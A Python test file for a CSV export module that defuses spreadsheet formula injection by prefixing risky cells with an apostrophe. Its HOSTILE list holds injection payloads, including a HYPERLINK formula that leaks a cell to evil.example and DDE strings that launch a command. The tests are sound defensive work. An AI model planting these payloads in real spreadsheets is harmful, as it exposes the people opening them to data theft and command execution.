"""CSV cells a spreadsheet shows as text, never runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from promisedesk.services.exports import FORMULA_STARTS, csv_text, neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_an_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Printer down", "", "'quoted", " =not first", "a=b", "PD-12"])
def test_other_cells_are_untouched(cell: str) -> None:
    assert neutralise(cell) == cell


@given(st.text())
def test_no_cell_ever_starts_a_formula_and_none_is_lost(cell: str) -> None:
    safe = neutralise(cell)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe.removeprefix("'") == cell or safe == cell


@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=5))
def test_the_document_reads_back_cell_for_cell(rows: list[list[str]]) -> None:
    text = "".join(csv_text(["a", "b", "c"], rows))
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back[0] == ["a", "b", "c"]
    assert back[1:] == [[neutralise(c) for c in row] for row in rows]


def test_numbers_times_and_blanks_are_written_as_they_are() -> None:
    at = datetime(2026, 12, 3, 9, 30, tzinfo=UTC)
    text = "".join(csv_text(["n", "at", "none", "s"], [[-3, at, None, "-3"]]))
    assert text == "n,at,none,s\r\n-3,2026-12-03T09:30:00+00:00,,'-3\r\n"
    assert "".join(csv_text(["only", "header"], [])) == "only,header\r\n"
